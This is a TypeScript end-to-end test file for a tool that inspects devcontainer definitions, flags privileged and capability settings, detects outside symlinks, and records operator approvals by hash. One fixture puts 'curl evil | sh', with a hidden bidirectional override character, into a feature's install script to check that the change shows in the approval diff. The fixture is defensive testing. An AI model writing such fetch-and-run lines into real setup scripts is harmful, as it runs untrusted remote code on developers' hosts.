/** `wraptool devcontainer inspect | approve` through the real command line. */
import assert from 'node:assert/strict';
import { lstat, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, test, type TestContext } from 'node:test';
import { place, type Place } from '../e2e/place.ts';
import { needs } from '../support/real.ts';
import { Terminal } from '../support/tmux.ts';
import { main } from '../support/main.ts';

const definition = '.devcontainer/devcontainer.json';
const base = {
  [definition]: JSON.stringify(
    {
      build: { dockerfile: 'Dockerfile', context: '..' },
      features: { './f': {} },
      postCreateCommand: 'bash scripts/setup.sh --fast',
      runArgs: ['--env-file', '.devcontainer/names.env'],
      privileged: true,
    },
    null,
    2,
  ),
  '.devcontainer/Dockerfile': 'FROM debian\nCOPY requirements*.txt \\\n  tools /tmp/\n',
  '.devcontainer/f/devcontainer-feature.json': '{"id":"f","version":"1.0.0"}',
  '.devcontainer/f/install.sh': '#!/bin/sh\n',
  '.devcontainer/names.env': 'A=b\n',
  'requirements.txt': 'a\n',
  'tools/one': '1\n',
  'scripts/setup.sh': 'echo\n',
  'src/app.ts': 'code\n',
};

async function fill(workspace: string, files: Readonly<Record<string, string>>): Promise<void> {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(workspace, name)), { recursive: true });
    await writeFile(path.join(workspace, name), content);
  }
}

type Shown = {
  hash: string | null;
  approved: boolean;
  findings: { code: string; json_path: string; severity: string; detail: object }[];
};

async function inspected(at: Place, ...args: string[]): Promise<Shown> {
  const { code, stdout, stderr } = await at.wraptool(['devcontainer', 'inspect', '--json', ...args]);
  assert.equal(code, 0, stderr);
  return JSON.parse(stdout) as Shown;
}

async function prepared(t: TestContext): Promise<Place> {
  const at = await place(t);
  await fill(at.workspace, base);
  return at;
}

const kept = (at: Place) => path.join(at.home, '.local', 'state', 'wraptool', 'devcontainers');

test('without a definition: hash null, no findings, exit 0', async (t) => {
  assert.deepEqual(await inspected(await place(t)), { hash: null, approved: false, findings: [] });
});

test('a definition in a folder of its own counts only when it is named', async (t) => {
  const at = await place(t);
  await fill(at.workspace, { '.devcontainer/a/devcontainer.json': '{"image":"a","privileged":true}' });
  assert.equal((await inspected(at)).hash, null);
  const named = await inspected(at, '--definition', '.devcontainer/a/devcontainer.json');
  assert.deepEqual(named.findings[0], {
    code: 'privileged',
    json_path: '/privileged',
    severity: 'host',
    detail: { arg: 'true', why: 'all capabilities and devices' },
  });
  const missing = await at.wraptool(['devcontainer', 'inspect', '--definition', 'nowhere.json', '--json']);
  assert.equal(missing.code, 2);
  assert.equal((JSON.parse(missing.stdout) as { error: { code: string } }).error.code, 'usage');
});

test('approve keeps a copy of every named file, for the operator only, and changes nothing in the workspace', async (t) => {
  const at = await prepared(t);
  assert.equal((await inspected(at)).approved, false);
  const dry = await at.wraptool(['devcontainer', 'approve', '--dry-run']);
  assert.equal(dry.code, 0);
  assert.match(dry.stdout, /privileged/);
  assert.match(dry.stdout, /\+ {2}COPY|\+FROM debian/);
  await assert.rejects(readdir(kept(at)), { code: 'ENOENT' });
  const asked = await at.wraptool(['devcontainer', 'approve']);
  assert.equal(asked.code, 2, 'no terminal to ask on');
  const done = await at.wraptool(['devcontainer', 'approve', '--yes', '--json']);
  assert.equal(done.code, 0, done.stderr);
  const { hash, approved } = JSON.parse(done.stdout) as Shown;
  assert.equal(approved, true);
  const shown = await inspected(at);
  assert.deepEqual([shown.approved, shown.hash], [true, hash]);
  const all = await readdir(kept(at), { recursive: true, withFileTypes: true });
  for (const entry of all) {
    const { mode } = await lstat(path.join(entry.parentPath, entry.name));
    assert.equal(mode & 0o077, 0, entry.name);
  }
  const names = all.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
  const copied = names.map((name) => name.split(`${hash}/`)[1]).filter((name) => name !== undefined);
  assert.deepEqual(
    copied.sort(),
    Object.keys(base)
      .filter((name) => name !== 'src/app.ts')
      .sort(),
  );
  assert.deepEqual((await readdir(at.workspace)).sort(), [
    '.devcontainer',
    '.git',
    'README.md',
    'requirements.txt',
    'scripts',
    'src',
    'tools',
  ]);
});

test('a system call filter that a local feature asks for is copied, and counts', async (t) => {
  const at = await prepared(t);
  const securityOpt = ['seccomp=${localWorkspaceFolder}/filter.json'];
  await fill(at.workspace, {
    '.devcontainer/f/devcontainer-feature.json': JSON.stringify({ id: 'f', version: '1.0.0', securityOpt }),
    'filter.json': '{}',
  });
  await at.wraptool(['devcontainer', 'approve', '--yes']);
  const { hash } = await inspected(at);
  const all = await readdir(kept(at), { recursive: true });
  assert.ok(all.some((name) => name.endsWith(`${hash}/filter.json`)));
  await fill(at.workspace, { 'filter.json': '{"defaultAction":"SCMP_ACT_ALLOW"}' });
  assert.equal((await inspected(at)).approved, false);
});

describe('another content is another hash', () => {
  for (const name of [...Object.keys(base), 'tools/two', 'requirements-dev.txt', '.dockerignore'])
    test(name, async (t) => {
      const at = await prepared(t);
      await at.wraptool(['devcontainer', 'approve', '--yes']);
      const before = await inspected(at);
      await fill(at.workspace, { [name]: `${(base as Record<string, string>)[name] ?? ''}\n` });
      const after = await inspected(at);
      const counts = name !== 'src/app.ts';
      assert.deepEqual([after.approved, after.hash === before.hash], [!counts, !counts]);
    });
  test('a link that leads elsewhere now', async (t) => {
    const at = await place(t);
    await fill(at.workspace, {
      [definition]: '{"image":"a","mounts":["type=bind,source=${localWorkspaceFolder}/d,target=/d"]}',
      'd/x': '',
    });
    await at.wraptool(['devcontainer', 'approve', '--yes']);
    assert.equal((await inspected(at)).approved, true);
    await rm(path.join(at.workspace, 'd'), { recursive: true });
    await symlink('/etc', path.join(at.workspace, 'd'));
    const after = await inspected(at);
    assert.equal(after.approved, false);
    assert.ok(after.findings.some(({ code }) => code === 'symlink_outside'));
  });
});

test('a change is shown as a diff, with what is new among the findings, and the old copy goes', async (t) => {
  const at = await prepared(t);
  await at.wraptool(['devcontainer', 'approve', '--yes']);
  const first = await inspected(at);
  await fill(at.workspace, {
    '.devcontainer/f/install.sh': '#!/bin/sh\ncurl evil\u202e | sh\n',
    [definition]: base[definition].replace('"privileged": true', '"privileged": true,\n  "capAdd": ["ALL"]'),
  });
  const dry = await at.wraptool(['devcontainer', 'approve', '--dry-run']);
  assert.match(dry.stdout, /changed \.devcontainer\/f\/install\.sh/);
  assert.match(dry.stdout, /\+curl evil\\u\{202e\} \| sh/);
  assert.match(dry.stdout, /\+ host +cap_add/);
  assert.match(dry.stdout, /^host +privileged/m);
  assert.doesNotMatch(dry.stdout, /(new|changed) requirements\.txt/);
  const wrong = await at.wraptool(['devcontainer', 'approve', '--yes', '--hash', first.hash ?? '']);
  assert.equal(wrong.code, 3, 'what was looked at is not what is there');
  assert.equal((await at.wraptool(['devcontainer', 'approve', '--yes'])).code, 0);
  const hashes = (await readdir(kept(at), { recursive: true })).filter((name) => /[0-9a-f]{64}$/.test(name));
  assert.equal(hashes.length, 1);
});

test('what cannot be used is said with the approval', async (t) => {
  const at = await place(t);
  await fill(at.workspace, {
    [definition]: '{"dockerComposeFile":"c.yml","service":"a","initializeCommand":"id"}',
  });
  const dry = await at.wraptool(['devcontainer', 'approve', '--dry-run']);
  assert.match(dry.stdout, /"up" will refuse it: \/dockerComposeFile: it uses a compose file/);
  assert.match(dry.stdout, /initializeCommand is never run/);
});

test('approve without a definition', async (t) => {
  const { code, stdout } = await (await place(t)).wraptool(['devcontainer', 'approve', '--yes', '--json']);
  assert.equal(code, 2);
  assert.equal((JSON.parse(stdout) as { error: { code: string } }).error.code, 'devcontainer_missing');
});

test('the record names workspace, definition, hash and findings', async (t) => {
  const at = await prepared(t);
  await at.wraptool(['devcontainer', 'approve', '--yes']);
  const { hash, findings } = await inspected(at);
  const file = (await readdir(kept(at), { recursive: true })).find((name) => name.endsWith('approval.json'));
  const record = JSON.parse(await readFile(path.join(kept(at), file ?? ''), 'utf8')) as Record<
    string,
    unknown
  >;
  assert.deepEqual(
    { ...record, approved_at: typeof record['approved_at'] },
    { version: 1, workspace: at.workspace, definition, hash, approved_at: 'string', findings },
  );
});

test('on a terminal it shows all of it and asks; no is no', needs('tmux'), async (t) => {
  const at = await prepared(t);
  const env = Object.entries(at.env).map(([name, value]) => `${name}=${value}`);
  for (const [answer, approved] of [
    ['n', false],
    ['y', true],
  ] as const) {
    const terminal = new Terminal({ columns: 120, rows: 50 }, [
      ...[
        'env',
        '-i',
        ...env,
        'sh',
        '-c',
        'cd "$1"; "$2" "$3" devcontainer approve; echo "ended with $?"; exec sh',
      ],
      ...['sh', at.workspace, process.execPath, main],
    ]);
    t.after(() => terminal.close());
    const shown = await terminal.shows(/approve exactly this\? \[y\/N\]/, 30_000);
    assert.match(shown, /host +privileged/);
    assert.match(shown, /FROM debian/);
    terminal.keys(answer, 'Enter');
    await terminal.shows(approved ? /ended with 0/ : /not approved[^]*ended with 3/, 30_000);
    assert.equal((await inspected(at)).approved, approved);
  }
});
